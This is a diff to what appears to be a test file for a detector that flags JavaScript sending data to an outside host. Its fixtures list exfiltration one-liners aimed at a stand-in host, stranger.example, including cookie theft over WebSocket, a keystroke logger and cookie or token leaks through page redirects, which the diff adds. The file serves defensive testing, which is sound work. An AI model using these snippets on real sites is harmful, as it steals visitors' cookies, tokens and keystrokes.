@@ -23,6 +23,9 @@ URL = "https://stranger.example/c"
         (f"const s=new WebSocket('{URL}');s.onopen=()=>s.send(document.cookie)", Way.SOCKET, Load.SECRET),
         (f"new EventSource('{URL}?u='+uid)", Way.EVENTS, Load.VISITOR),
         (f"var s=document.createElement('script');s.src='{URL}?r='+document.referrer", Way.SCRIPT, Load.VISITOR),
+        (f"location='{URL}?c='+document.cookie", Way.UNKNOWN, Load.SECRET),
+        (f"window.location = '{URL}?t=' + localStorage.getItem('t')", Way.UNKNOWN, Load.SECRET),
+        (f"location.replace('{URL}?c='+document.cookie)", Way.UNKNOWN, Load.SECRET),
         (f"el.style.backgroundImage='url({URL}?x='+uid+')'", Way.STYLE, Load.VISITOR),
         (f"document.onkeydown=e=>{{fetch('{URL}?'+e.key)}}", Way.FETCH, Load.SECRET),
         (f"""document.write('<img src="{URL}?'+Math.random()+'" width=1>')""", Way.IMAGE, Load.CHANGING),
@@ -59,6 +62,8 @@ def test_address_is_read_when_it_is_disguised(code):
         r"fetch('https:\/\/api.stranger.example\/v1').then(show)",
         "$.getJSON('https://api.stranger.example/a', function (data) { show(data) })",
         "import('https://cdn.stranger.example/chart.js')",
+        "location = 'https://login.stranger.example/?next=' + location.pathname",
+        "window.open('https://maps.stranger.example/?q=' + place)",
     ],
 )
 def test_call_weighs_little_when_the_page_uses_the_answer(code):
